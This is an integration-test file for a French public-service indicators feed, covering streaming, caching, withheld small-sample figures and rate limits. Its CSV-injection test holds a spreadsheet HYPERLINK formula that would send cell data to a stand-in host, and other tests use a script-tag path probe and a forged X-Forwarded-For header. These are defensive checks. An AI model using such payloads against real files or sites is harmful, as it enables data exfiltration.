"""The feed through the real broker, database and service process."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import re
import time
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import asyncpg
import httpx
import pytest

pytestmark = pytest.mark.integration

NBSP = "\u00a0"
# An instant, as the feeds write it: its seconds may read like a withheld figure (":55.4…").
TIMESTAMP = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})?")


async def test_a_new_indicators_event_changes_the_feed_and_the_stream(
    publication, send, make_event, feed_when, sse
):
    site = "urssaf-montreuil"
    await send(
        make_event(
            site,
            {"nps": (42.0, 412), "satisfaction": (81.0, 400)},
            previous={"nps": (38.0, 380)},
            site_name="Accueil de Montreuil",
        )
    )
    feed = await feed_when(publication.url, site, lambda body: True, timeout=60)

    assert feed["site_id"] == site
    assert feed["site_name"] == "Accueil de Montreuil"
    assert feed["updated_at"]
    nps = next(f for f in feed["current"]["indicators"] if f["id"] == "nps")
    assert nps["published"] is True
    assert (nps["value"], nps["unit"], nps["sample_size"]) == (42.0, "score", 412)
    assert nps["label"] == "Recommandation (NPS)"
    assert nps["interval"]["low"] == 39.5 and nps["interval"]["high"] == 44.5
    assert nps["method"] == "adjusted_wald"
    assert nps["period"]["id"] == "rolling_90d"
    assert nps["text"]["value"] == "+42"
    assert nps["text"]["sample"].startswith("Sur 412 réponses, du ")
    previous = {f["id"]: f for f in feed["previous"]["indicators"]}
    assert previous["nps"]["value"] == 38.0
    # issue #18: +4 on about 400 answers each is within the noise, and the feed says so
    assert nps["text"]["interval"] == "entre +40 et +45"
    assert nps["change"]["distinguishable"] is False
    assert nps["change"]["interval"]["method"] == "adjusted_wald_difference"
    assert nps["text"]["change"] == "stable (écart dans la marge d'incertitude)"

    async with sse(publication.url, site) as stream:
        assert await stream.next_event("indicators") == feed  # the current feed at once
        started = time.monotonic()
        await send(make_event(site, {"nps": (45.0, 430), "satisfaction": (82.0, 420)}))
        pushed = await stream.next_event("indicators", timeout=10)
        pushed_after = time.monotonic() - started
        await stream.next_event("ping", timeout=5)  # a quiet stream still shows it is alive
    assert next(f for f in pushed["current"]["indicators"] if f["id"] == "nps")["value"] == 45.0
    assert pushed_after < 3.0, f"the screen saw the change {pushed_after:.2f} s after the event"
    later = await feed_when(publication.url, site, lambda body: True)
    assert later == pushed


async def test_http_caching_etag_304_gzip_and_short_max_age(
    publication, send, make_event, feed_when
):
    site = "urssaf-cache"
    await send(make_event(site, {"nps": (10.0, 100)}))
    await feed_when(publication.url, site, lambda body: True, timeout=60)
    path = f"/v1/sites/{site}/indicators"
    async with httpx.AsyncClient(base_url=publication.url) as client:
        zipped = await client.get(path, headers={"Accept-Encoding": "gzip"})
        plain = await client.get(path, headers={"Accept-Encoding": "identity"})
        assert zipped.headers["content-encoding"] == "gzip"
        assert "content-encoding" not in plain.headers
        assert zipped.json() == plain.json()
        assert zipped.headers["etag"] != plain.headers["etag"]  # two representations, two tags
        assert zipped.headers["cache-control"] == "public, max-age=15"
        assert zipped.headers["vary"] == "Accept-Encoding"
        for response in (zipped, plain):
            again = await client.get(path, headers={"If-None-Match": response.headers["etag"]})
            assert again.status_code == 304
            assert again.content == b""
            assert again.headers["etag"]
        weak = await client.get(path, headers={"If-None-Match": f"W/{plain.headers['etag']}"})
        assert weak.status_code == 304

        await send(make_event(site, {"nps": (11.0, 101)}))
        await feed_when(
            publication.url, site, lambda body: body["current"]["indicators"][0]["value"] == 11.0
        )
        changed = await client.get(path, headers={"If-None-Match": plain.headers["etag"]})
        assert changed.status_code == 200
        assert changed.headers["etag"] != zipped.headers["etag"]

        network = await client.get("/v1/indicators", params={"network": "urssaf"})
        assert network.status_code == 200
        [listed] = [s for s in network.json()["sites"] if s["site_id"] == site]
        assert listed["current"]["indicators"][0]["value"] == 11.0
        await send(make_event(site, {"nps": (12.0, 102)}))
        await feed_when(
            publication.url, site, lambda body: body["current"]["indicators"][0]["value"] == 12.0
        )
        network = await client.get("/v1/indicators", params={"network": "urssaf"})
        [listed] = [s for s in network.json()["sites"] if s["site_id"] == site]
        assert listed["current"]["indicators"][0]["value"] == 12.0  # the cached feed was voided
        repeat = await client.get(
            "/v1/indicators",
            params={"network": "urssaf"},
            headers={"If-None-Match": network.headers["etag"]},
        )
        assert repeat.status_code == 304

        missing = await client.get("/v1/sites/no-such-site/indicators")
        assert missing.status_code == 404
        assert missing.json()["error"] == "unknown_site"

        for url in (path, "/v1/indicators?network=urssaf", "/v1/open-data/export-indicateurs.csv"):
            full = await client.get(url, headers={"Accept-Encoding": "identity"})
            head = await client.head(url, headers={"Accept-Encoding": "identity"})
            assert head.status_code == 200, url
            assert head.content == b""
            assert head.headers["etag"] == full.headers["etag"]
            assert head.headers["content-length"] == str(len(full.content))


async def test_a_figure_below_the_floor_leaves_the_service_in_no_output(
    publication, send, make_event, feed_when, sse
):
    site = "urssaf-petit-site"
    # nps n=12 and satisfaction n=29 are below the floor (30); fcr_declared n=30 reaches it.
    event = make_event(
        site,
        {"nps": (71.3, 12), "satisfaction": (63.7, 29), "fcr_declared": (88.2, 30)},
        previous={"nps": (57.9, 20)},
        network="urssaf-floor",
    )
    # Another site, published at an instant whose seconds read "55.4": the network-wide CSV
    # holds its date_mise_a_jour, which is no withheld figure (a CI run once failed on one).
    other = make_event("urssaf-grand-site", {"nps": (40.0, 300)}, network="urssaf-floor-other")
    stamped = datetime.fromisoformat("2026-12-01T10:20:55.412345+00:00")
    other = other.model_copy(
        update={"data": other.data.model_copy(update={"computed_at": stamped})}
    )
    await send(other, event)
    await feed_when(publication.url, "urssaf-grand-site", lambda body: True, timeout=60)
    feed = await feed_when(publication.url, site, lambda body: True, timeout=60)
    figures = {f["id"]: f for f in feed["current"]["indicators"]}
    for withheld in (figures["nps"], figures["satisfaction"], feed["previous"]["indicators"][0]):
        assert withheld["published"] is False
        assert withheld["withheld_reason"] == "résultats en cours de collecte"
        assert {"value", "sample_size", "interval", "method"}.isdisjoint(withheld)
    assert figures["fcr_declared"]["published"] is True
    assert figures["fcr_declared"]["sample_size"] == 30

    forbidden = [
        "71.3",
        "68.8",
        "73.8",
        "+71",
        "63.7",
        "61.2",
        "66.2",
        f"64{NBSP}%",
        "57.9",
        "55.4",
        "60.4",
        "+58",
        "Sur 12 réponses",
        "Sur 29 réponses",
        "Sur 20 réponses",
    ]
    outputs: dict[str, str] = {}
    async with httpx.AsyncClient(base_url=publication.url) as client:
        path = f"/v1/sites/{site}/indicators"
        outputs["json"] = (await client.get(path, headers={"Accept-Encoding": "identity"})).text
        zipped = await client.get(path, headers={"Accept-Encoding": "gzip"})
        outputs["json-gzip"] = zipped.text
        outputs["network"] = (await client.get("/v1/indicators?network=urssaf-floor")).text
        outputs["csv"] = (await client.get("/v1/open-data/export-indicateurs.csv")).text
        outputs["csv-network"] = (
            await client.get("/v1/open-data/export-indicateurs.csv?network=urssaf-floor")
        ).text
        outputs["display"] = (await client.get(f"/display/{site}")).text
    async with sse(publication.url, site) as stream:
        await stream.next_event("indicators")
        outputs["sse"] = "\n".join(stream.raw)
    assert "88.2" in outputs["json"] and "88.2" in outputs["csv"]  # the published one is there
    assert "Résultats en cours de collecte" in outputs["display"]
    assert "en_cours_de_collecte" in outputs["csv-network"]
    assert "55.412345" in outputs["csv"]  # the other site's instant is there, and no leak
    for name, text in outputs.items():
        figures_only = TIMESTAMP.sub("<instant>", text)
        leaked = [token for token in forbidden if token in figures_only]
        assert not leaked, f"{name} leaks withheld figures: {leaked}"


async def test_the_display_says_when_it_was_updated_on_the_sites_own_clock(
    publication, send, make_event, feed_when
):
    """Issue #15: a Guadeloupe screen's « Mis à jour à » is the hall's time, not Paris's."""
    site = "urssaf-guadeloupe-ecran"
    event = make_event(site, {"nps": (42.0, 412)})
    told = event.data.model_copy(update={"site_timezone": "America/Guadeloupe"})
    await send(event.model_copy(update={"data": told}))
    feed = await feed_when(publication.url, site, lambda body: True, timeout=60)
    local = told.computed_at.astimezone(ZoneInfo("America/Guadeloupe"))
    assert feed["timezone"] == "America/Guadeloupe"
    assert feed["updated_at_text"]["time"] == f"{local.hour}{NBSP}h{NBSP}{local.minute:02d}"
    assert datetime.fromisoformat(feed["updated_at"]).utcoffset() == timedelta(hours=-4)
    async with httpx.AsyncClient(base_url=publication.url) as client:
        page = (await client.get(f"/display/{site}")).text
    assert 'data-timezone="America/Guadeloupe"' in page
    assert feed["updated_at_text"]["time"] in page


async def test_the_display_page_of_an_unknown_site_is_calm(publication):
    async with httpx.AsyncClient(base_url=publication.url) as client:
        for path in ("/display/site-pas-encore-publie", "/display/%3Cscript%3E"):
            page = await client.get(path)
            assert page.status_code == 200
            assert "Nos résultats de qualité de service" in page.text
            assert "NOUS NOUS ENGAGEONS POUR AMÉLIORER LES SERVICES PUBLICS" in page.text
            assert "<script>" not in page.text.split("</head>")[1]
            assert "unsafe-inline" not in page.headers["content-security-policy"]


async def test_a_restart_rebuilds_a_lost_read_model_from_the_topic(
    publication, stack, send, make_event, feed_when
):
    site = "urssaf-rebuilt"
    await send(make_event(site, {"nps": (12.0, 300)}))
    await send(make_event(site, {"nps": (17.0, 310), "satisfaction": (77.0, 305)}))
    before = await feed_when(
        publication.url, site,
        lambda body: any(f["id"] == "nps" and f["value"] == 17.0
                         for f in body["current"]["indicators"]),
    )  # fmt: skip

    publication.stop()
    connection = await asyncpg.connect(stack.database_url)
    try:  # the read model is lost; only the compacted topic remains
        await connection.execute("TRUNCATE publication.site_indicators")
    finally:
        await connection.close()
    publication.start()
    publication.wait_ready()

    after = await feed_when(publication.url, site, lambda body: True, timeout=30)
    assert after == before  # the newest snapshot again, not the older one replayed first


async def test_open_data_csv_neutralises_formulas_but_keeps_numbers(
    publication, send, make_event, feed_when
):
    """OWASP CSV injection: a site name like `=HYPERLINK(...)` must reach a spreadsheet as text,
    while a negative NPS stays a number."""
    network = "csv-formules"
    hyperlink = '=HYPERLINK("https://pieges.example/?d="&A1;"Cliquez ici")'
    names = {
        "csv-lien": hyperlink,
        "csv-plus": "+33 1 23 45 67 89",
        "csv-moins": "-2+3",
        "@csv-arobase": "@SUM(1+1)",
    }
    await send(
        *(
            make_event(site, {"nps": (-12.0, 120)}, network=network, site_name=name)
            for site, name in names.items()
        )
    )
    for site in names:
        await feed_when(publication.url, site, lambda body: True, timeout=60)
    async with httpx.AsyncClient(base_url=publication.url) as client:
        response = await client.get(
            "/v1/open-data/export-indicateurs.csv", params={"network": network}
        )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text), delimiter=";"))
    nps = [row for row in rows if row["id_indicateur"] == "nps"]
    by_site = {row["id_structure"].removeprefix("'"): row for row in nps}
    assert set(by_site) == set(names)
    for site, name in names.items():
        row = by_site[site]
        assert row["nom_structure"] == "'" + name, row  # text, not a formula
        assert row["valeur"] == "-12"  # a number stays a number
        assert row["ic95_borne_basse"] == "-14.5"
        for column, cell in row.items():
            if column not in {"valeur", "ic95_borne_basse", "ic95_borne_haute"}:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert by_site["@csv-arobase"]["id_structure"] == "'@csv-arobase"


def _cache_entries(metrics: str) -> dict[str, float]:
    found = {}
    for line in metrics.splitlines():
        if line.startswith("publication_feed_cache_entries{"):
            labels, value = line.rsplit(" ", 1)
            found[labels.split('cache="')[1].split('"')[0]] = float(value)
    return found


async def test_unknown_networks_are_refused_before_anything_is_cached(
    publication, send, make_event, feed_when
):
    """`?network=<anything>` once kept a rendered feed per distinct value, without bound."""
    await send(make_event("reseau-connu-site", {"nps": (20.0, 100)}, network="reseau-connu"))
    await feed_when(publication.url, "reseau-connu-site", lambda body: True, timeout=60)
    async with httpx.AsyncClient(base_url=publication.url) as client:
        known = await client.get("/v1/indicators", params={"network": "reseau-connu"})
        assert known.status_code == 200
        before = _cache_entries((await client.get("/metrics")).text)
        for n in range(300):
            for path in ("/v1/indicators", "/v1/open-data/export-indicateurs.csv"):
                response = await client.get(path, params={"network": f"inconnu-{n}"})
                assert response.status_code == 404, (path, response.text)
                assert response.json()["error"] == "unknown_network"
                assert response.headers["cache-control"] == "no-store"
        unknown_site = await client.get("/v1/sites/site-inconnu-1/indicators")
        assert unknown_site.status_code == 404
        after = _cache_entries((await client.get("/metrics")).text)
    assert after["bulk"] <= before["bulk"] + 1, (before, after)
    assert after["sites"] <= before["sites"] + 1, (before, after)


async def test_one_client_address_holds_at_most_its_share_of_event_streams(publication):
    """One client could hold every SSE slot of a process; now 4 per address (SSE_MAX_CLIENTS_PER
    _ADDRESS), then 429 with Retry-After, while other addresses still connect."""
    timeout = httpx.Timeout(10.0, read=None)
    one = {"X-Forwarded-For": "203.0.113.7"}  # the peer, 127.0.0.1, is a trusted proxy
    async with contextlib.AsyncExitStack() as stack:
        http = await stack.enter_async_context(
            httpx.AsyncClient(base_url=publication.url, timeout=timeout)
        )
        for n in range(4):
            stream = await stack.enter_async_context(
                http.stream("GET", f"/v1/sites/ecran-{n}/events", headers=one)
            )
            assert stream.status_code == 200
        refused = await http.get("/v1/sites/ecran-5/events", headers=one)
        assert refused.status_code == 429
        assert int(refused.headers["retry-after"]) > 0
        assert refused.json()["error"] == "too_many_streams"
        # A client cannot dodge the cap by writing its own X-Forwarded-For on the left.
        forged = {"X-Forwarded-For": "198.51.100.1, 203.0.113.7"}
        assert (await http.get("/v1/sites/ecran-6/events", headers=forged)).status_code == 429
        other = await stack.enter_async_context(
            http.stream("GET", "/v1/sites/ecran-0/events",
                        headers={"X-Forwarded-For": "203.0.113.8"})
        )  # fmt: skip
        assert other.status_code == 200
    # Closed streams give the address its share back (once the server saw them go).
    async with httpx.AsyncClient(base_url=publication.url, timeout=timeout) as http:
        for _ in range(100):
            async with http.stream("GET", "/v1/sites/ecran-7/events", headers=one) as again:
                if again.status_code == 200:
                    break
            await asyncio.sleep(0.1)
        assert again.status_code == 200


async def test_no_documentation_page_loads_scripts_from_a_cdn(publication):
    async with httpx.AsyncClient(base_url=publication.url) as client:
        for path in ("/docs", "/redoc", "/docs/oauth2-redirect"):
            assert (await client.get(path)).status_code == 404, path
